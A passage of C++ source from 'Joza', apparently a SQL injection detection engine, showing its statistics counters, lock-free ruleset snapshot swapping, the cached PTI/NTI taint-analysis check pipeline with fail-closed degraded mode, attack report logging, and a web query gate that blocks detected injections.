      a.nti_planner_exact_automaton.load(std::memory_order_relaxed);
  out.nti_planner_exact_find =
      a.nti_planner_exact_find.load(std::memory_order_relaxed);
  out.nti_planner_calibrated =
      a.nti_planner_calibrated.load(std::memory_order_relaxed);
  out.pti_failures = a.pti_failures.load(std::memory_order_relaxed);
  out.breaker_fast_rejects =
      a.breaker_fast_rejects.load(std::memory_order_relaxed);
  out.degraded_checks = a.degraded_checks.load(std::memory_order_relaxed);
  out.degraded_blocks = a.degraded_blocks.load(std::memory_order_relaxed);
  out.cache_evictions =
      state_->query_cache.evictions() + state_->structure_cache.evictions() -
      state_->evictions_baseline.load(std::memory_order_relaxed);
  out.ruleset_version = state_->snapshot.Load()->version;
  out.ruleset_swaps = a.ruleset_swaps.load(std::memory_order_relaxed);
  out.snapshot_saves = a.snapshot_saves.load(std::memory_order_relaxed);
  out.snapshot_save_failures =
      a.snapshot_save_failures.load(std::memory_order_relaxed);
  out.snapshot_loads = a.snapshot_loads.load(std::memory_order_relaxed);
  return out;
}

void Joza::ResetStats() {
  AtomicStats& a = state_->stats;
  a.queries_checked.store(0, std::memory_order_relaxed);
  a.attacks_detected.store(0, std::memory_order_relaxed);
  a.query_cache_hits.store(0, std::memory_order_relaxed);
  a.structure_cache_hits.store(0, std::memory_order_relaxed);
  a.pti_full_runs.store(0, std::memory_order_relaxed);
  a.nti_runs.store(0, std::memory_order_relaxed);
  a.nti_exact_hits.store(0, std::memory_order_relaxed);
  a.nti_seed_candidates.store(0, std::memory_order_relaxed);
  a.nti_dp_runs.store(0, std::memory_order_relaxed);
  a.nti_tier_reference.store(0, std::memory_order_relaxed);
  a.nti_tier_bounded.store(0, std::memory_order_relaxed);
  a.nti_tier_staged.store(0, std::memory_order_relaxed);
  a.nti_planner_exact_batch.store(0, std::memory_order_relaxed);
  a.nti_planner_exact_automaton.store(0, std::memory_order_relaxed);
  a.nti_planner_exact_find.store(0, std::memory_order_relaxed);
  a.nti_planner_calibrated.store(0, std::memory_order_relaxed);
  a.pti_failures.store(0, std::memory_order_relaxed);
  a.breaker_fast_rejects.store(0, std::memory_order_relaxed);
  a.degraded_checks.store(0, std::memory_order_relaxed);
  a.degraded_blocks.store(0, std::memory_order_relaxed);
  a.ruleset_swaps.store(0, std::memory_order_relaxed);
  a.snapshot_saves.store(0, std::memory_order_relaxed);
  a.snapshot_save_failures.store(0, std::memory_order_relaxed);
  a.snapshot_loads.store(0, std::memory_order_relaxed);
  state_->evictions_baseline.store(
      state_->query_cache.evictions() + state_->structure_cache.evictions(),
      std::memory_order_relaxed);
}

void Joza::OnSourcesChanged(const std::vector<php::SourceFile>& files) {
  // Writers serialize against each other only. Readers are never blocked:
  // a check already in flight finishes against the snapshot it pinned, and
  // the successor is built entirely off the hot path.
  std::lock_guard<std::mutex> lock(state_->swap_mu);
  const auto current = state_->snapshot.Load();
  auto next_pti = current->pti->WithSources(files);
  const std::uint64_t next_version = next_pti->version();
  const std::shared_ptr<const pti::Ruleset> published = next_pti;
  state_->snapshot.Publish(std::make_shared<const RulesetSnapshot>(
      RulesetSnapshot{std::move(next_pti), current->nti, next_version}));
  state_->stats.ruleset_swaps.fetch_add(1, std::memory_order_relaxed);
  // Cache keys are salted with the snapshot version, so entries proven
  // under the old vocabulary can never satisfy a lookup against the new
  // one — including entries a racing reader inserts after this swap (it
  // inserts under the old version's keys). Clearing just reclaims the now
  // unreachable entries' memory.
  state_->query_cache.Clear();
  state_->structure_cache.Clear();
  // Best-effort crash durability: persist the generation just published.
  // Still under swap_mu, so snapshots land on disk in version order; a
  // failed persist is counted but never rolls back the publish.
  if (snapshot_sink_) {
    const Status persisted =
        snapshot_sink_(published->fragments(), next_version);
    if (persisted.ok()) {
      state_->stats.snapshot_saves.fetch_add(1, std::memory_order_relaxed);
    } else {
      state_->stats.snapshot_save_failures.fetch_add(
          1, std::memory_order_relaxed);
    }
  }
}

StatusOr<pti::PtiResult> Joza::RunPti(const AnalysisContext& ctx) {
  state_->stats.pti_full_runs.fetch_add(1, std::memory_order_relaxed);
  if (pti_backend_) {
    if (!state_->breaker.Allow()) {
      state_->stats.breaker_fast_rejects.fetch_add(1,
                                                   std::memory_order_relaxed);
      state_->stats.pti_failures.fetch_add(1, std::memory_order_relaxed);
      return Status::Unavailable("PTI circuit breaker open");
    }
    auto result = pti_backend_(ctx.query, ctx.tokens, ctx.deadline);
    if (!result.ok()) {
      state_->breaker.RecordFailure();
      state_->stats.pti_failures.fetch_add(1, std::memory_order_relaxed);
      return result.status();
    }
    state_->breaker.RecordSuccess();
    return result;
  }
  // In-process: pure functions over the pinned immutable snapshot. No
  // locks on either strategy — the naive path runs stateless here (MRU
  // ordering is a single-owner optimization; results are identical).
  return pti::AnalyzeUnits(*ctx.snapshot->pti, ctx.query, ctx.pti_units);
}

Verdict Joza::Check(std::string_view query,
                    const std::vector<http::Input>& inputs,
                    util::Deadline deadline) {
  return CheckViews(query, http::ViewsOf(inputs), deadline);
}

Verdict Joza::CheckRequest(std::string_view query,
                           const http::Request& request,
                           util::Deadline deadline) {
  return CheckViews(query, request.InputViews(), deadline);
}

Verdict Joza::CheckViews(std::string_view query,
                         const std::vector<http::InputView>& inputs,
                         util::Deadline deadline) {
  // Single-pass pipeline: pin the snapshot (one atomic load — the only
  // synchronization on this path), lex exactly once, then thread the
  // shared working set through caches, PTI and NTI.
  AnalysisContext ctx;
  ctx.query = query;
  ctx.snapshot = state_->snapshot.Load();
  ctx.deadline = deadline;
  ctx.tokens = sql::Lex(query);
  const RulesetSnapshot& snap = *ctx.snapshot;

  state_->stats.queries_checked.fetch_add(1, std::memory_order_relaxed);
  Verdict verdict;
  verdict.ruleset_version = snap.version;

  // --- PTI (with caches) ---------------------------------------------------
  bool pti_safe = true;
  if (config_.enable_pti) {
    bool resolved = false;
    // Both cache keys are salted with the snapshot version: a hit proves
    // safety under *this* vocabulary, never an older one.
    const std::uint64_t qhash = HashCombine(Fnv1a64(query), snap.version);
    if (config_.query_cache && state_->query_cache.Lookup(qhash)) {
      state_->stats.query_cache_hits.fetch_add(1, std::memory_order_relaxed);
      verdict.query_cache_hit = true;
      resolved = true;  // safe
    }

    std::uint64_t shash = 0;
    bool have_shash = false;
    if (!resolved && config_.structure_cache) {
      auto parsed = sql::StructureHashOf(query, ctx.tokens);
      if (parsed.ok()) {
        shash = HashCombine(parsed.value(), snap.version);
        have_shash = true;
        if (state_->structure_cache.Lookup(shash)) {
          state_->stats.structure_cache_hits.fetch_add(
              1, std::memory_order_relaxed);
          verdict.structure_cache_hit = true;
          resolved = true;  // same shape as a previously PTI-safe query
        }
      }
    }

    if (!resolved) {
      ctx.pti_units =
          sql::BuildCriticalUnits(ctx.tokens, snap.pti->config().strict_tokens);
      auto pti_or = RunPti(ctx);
      if (pti_or.ok()) {
        verdict.pti = std::move(pti_or).value();
        pti_safe = !verdict.pti.attack_detected;
        if (pti_safe) {
          if (config_.query_cache) state_->query_cache.Insert(qhash);
          if (config_.structure_cache) {
            if (!have_shash) {
              auto parsed = sql::StructureHashOf(query, ctx.tokens);
              if (parsed.ok()) {
                shash = HashCombine(parsed.value(), snap.version);
                have_shash = true;
              }
            }
            if (have_shash) state_->structure_cache.Insert(shash);
          }
        }
      } else {
        // No PTI verdict: degraded-mode policy decides. Never cache —
        // nothing was proven safe.
        verdict.degraded = true;
        verdict.pti_unavailable = true;
        state_->stats.degraded_checks.fetch_add(1, std::memory_order_relaxed);
        if (config_.degraded_mode == DegradedMode::kNtiOnly &&
            config_.enable_nti) {
          // NTI alone decides; PTI treated as (unproven) safe.
        } else {
          // Fail closed — also the forced fallback for kNtiOnly when NTI
          // is disabled: with no analyzer at all, nothing may pass.
          pti_safe = false;
          verdict.pti.attack_detected = true;
        }
      }
    }
  }

  // --- NTI (never cached: depends on this request's inputs) ---------------
  bool nti_safe = true;
  if (config_.enable_nti) {
    state_->stats.nti_runs.fetch_add(1, std::memory_order_relaxed);
    ctx.nti_critical = sql::CriticalTokens(ctx.tokens, snap.nti.strict_tokens);
    verdict.nti = nti::NtiAnalyzer(snap.nti)
                      .AnalyzeCritical(query, ctx.nti_critical, inputs);
    nti_safe = !verdict.nti.attack_detected;
    AtomicStats& a = state_->stats;
    a.nti_exact_hits.fetch_add(verdict.nti.exact_hits,
                               std::memory_order_relaxed);
    a.nti_seed_candidates.fetch_add(verdict.nti.seed_candidates,
                                    std::memory_order_relaxed);
    a.nti_dp_runs.fetch_add(verdict.nti.dp_runs, std::memory_order_relaxed);
    a.nti_tier_reference.fetch_add(verdict.nti.tier_reference,
                                   std::memory_order_relaxed);
    a.nti_tier_bounded.fetch_add(verdict.nti.tier_bounded,
                                 std::memory_order_relaxed);
    a.nti_tier_staged.fetch_add(verdict.nti.tier_staged,
                                std::memory_order_relaxed);
    a.nti_planner_exact_batch.fetch_add(verdict.nti.planner_exact_batch,
                                        std::memory_order_relaxed);
    a.nti_planner_exact_automaton.fetch_add(
        verdict.nti.planner_exact_automaton, std::memory_order_relaxed);
    a.nti_planner_exact_find.fetch_add(verdict.nti.planner_exact_find,
                                       std::memory_order_relaxed);
    a.nti_planner_calibrated.fetch_add(verdict.nti.planner_calibrated,
                                       std::memory_order_relaxed);
  }

  verdict.attack = !pti_safe || !nti_safe;
  // A degraded fail-closed block is not a PTI *detection*: attribute only
  // what an analyzer actually found.
  const bool pti_detected = !pti_safe && !verdict.pti_unavailable;
  if (pti_detected && !nti_safe) {
    verdict.detected_by = DetectedBy::kBoth;
  } else if (pti_detected) {
    verdict.detected_by = DetectedBy::kPti;
  } else if (!nti_safe) {
    verdict.detected_by = DetectedBy::kNti;
  }
  // A block caused only by PTI being unavailable is counted separately and
  // kept out of the attack audit log (a daemon outage must not flood the
  // sink with one phantom attack per request).
  if (verdict.attack && verdict.detected_by == DetectedBy::kNone) {
    state_->stats.degraded_blocks.fetch_add(1, std::memory_order_relaxed);
    return verdict;
  }
  if (verdict.attack) {
    const std::size_t sequence =
        state_->stats.attacks_detected.fetch_add(1, std::memory_order_relaxed) +
        1;
    // The structured report (string copies, token texts) is materialized
    // only when someone is listening.
    if (attack_sink_) EmitAttackReport(verdict, query, sequence);
  }
  return verdict;
}

void Joza::EmitAttackReport(const Verdict& verdict, std::string_view query,
                            std::size_t sequence) {
  AttackReport report;
  report.query = std::string(query);
  report.detected_by = verdict.detected_by;
  report.sequence = sequence;
  report.untrusted_tokens.reserve(verdict.pti.untrusted_critical_tokens.size());
  for (const sql::Token& t : verdict.pti.untrusted_critical_tokens) {
    report.untrusted_tokens.emplace_back(t.text);
  }
  // Report the marking that actually covered a critical token, if any.
  if (verdict.nti.attack_detected && !verdict.nti.markings.empty()) {
    for (const nti::TaintMarking& m : verdict.nti.markings) {
      bool covers = false;
      for (const sql::Token& t : verdict.nti.tainted_critical_tokens) {
        if (m.span.contains(t.span)) covers = true;
      }
      if (!covers) continue;
      report.matched_input_name = m.input_name;
      report.matched_input_kind = m.input_kind;
      report.matched_span = m.span;
      report.match_ratio = m.ratio;
      break;
    }
  }
  std::lock_guard<std::mutex> sink_lock(state_->sink_mu);
  attack_sink_(report);
}

std::string AttackReport::ToLogLine() const {
  std::string line;
  // One pre-sized buffer: fixed text + numbers comfortably fit in the
  // slack; the variable-length pieces are accounted for exactly.
  std::size_t cap = 96 + query.size() + matched_input_name.size();
  for (const std::string& t : untrusted_tokens) cap += t.size() + 3;
  line.reserve(cap);
  line.append("JOZA-ATTACK #").append(std::to_string(sequence));
  line.append(" by=").append(DetectedByName(detected_by));
  if (!matched_input_name.empty()) {
    line.append(" input=").append(http::InputKindName(matched_input_kind));
    line.append(":").append(matched_input_name);
    line.append(" span=[").append(std::to_string(matched_span.begin));
    line.append(",").append(std::to_string(matched_span.end));
    line.append(") ratio=").append(std::to_string(match_ratio));
  }
  if (!untrusted_tokens.empty()) {
    line.append(" untrusted=");
    for (std::size_t i = 0; i < untrusted_tokens.size(); ++i) {
      if (i > 0) line.append(",");
      line.append("\"").append(untrusted_tokens[i]).append("\"");
    }
  }
  line.append(" query=\"").append(query).append("\"");
  return line;
}

Joza::BatchScope::BatchScope(const Joza& engine) {
  // Only the staged tier consults the batch context; skip the thread-local
  // install (and later automaton builds) when it could never be read.
  if (engine.config().enable_nti &&
      engine.config().nti.tier == nti::MatchTier::kStaged) {
    scope_ = std::make_unique<nti::ScopedBatchMatch>();
  }
}

Joza::BatchScope::~BatchScope() = default;

void Joza::BatchScope::Add(const http::Request& request) {
  if (scope_) scope_->context().Register(request);
}

std::uint64_t Joza::BatchScope::exact_scans() const {
  return scope_ ? scope_->context().scans() : 0;
}

std::uint64_t Joza::BatchScope::exact_reuses() const {
  return scope_ ? scope_->context().reuses() : 0;
}

webapp::QueryGate Joza::MakeGate() {
  return [this](std::string_view sql, const http::Request& request) {
    // Zero-copy interception: the stored request's inputs are analyzed as
    // borrowed views, never materialized through AllInputs().
    Verdict v = CheckRequest(sql, request);
    webapp::GateDecision decision;
    if (!v.attack) {
      decision.action = webapp::GateDecision::Action::kAllow;
      return decision;
    }
    if (v.detected_by == DetectedBy::kNone) {
      // Degraded fail-closed block, not a detection: always virtualize the
      // error — the app sees a failed query and renders its own error page,
      // so an analyzer outage looks like a database hiccup, never a
      // site-wide hard 500 (and never an open door).
      decision.reason = "PTI unavailable: degraded fail-closed";
      decision.action = webapp::GateDecision::Action::kBlockError;
      return decision;
    }
    decision.reason = std::string("SQL injection detected by ") +
                      DetectedByName(v.detected_by);
    decision.action = config_.recovery == RecoveryPolicy::kTerminate
                          ? webapp::GateDecision::Action::kBlockTerminate
                          : webapp::GateDecision::Action::kBlockError;
    return decision;
  };
}

}  // namespace joza::core
